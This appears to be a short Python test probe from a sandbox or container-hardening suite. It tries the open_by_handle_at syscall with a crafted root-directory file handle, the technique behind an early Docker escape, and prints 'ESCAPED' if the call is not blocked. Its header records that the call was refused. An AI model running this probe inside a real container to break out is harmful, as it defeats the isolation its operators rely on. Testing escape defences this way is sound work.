# tries: open_by_handle_at, which made the escape from early Docker
# outcome: finished
# says: Operation not permitted
# machine: x86_64
# twin: as root escapes
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
result = libc.syscall(304, os.open("/dev/null", os.O_RDONLY), handle, 0)
print("ESCAPED" if ctypes.get_errno() != 1 else os.strerror(ctypes.get_errno()))
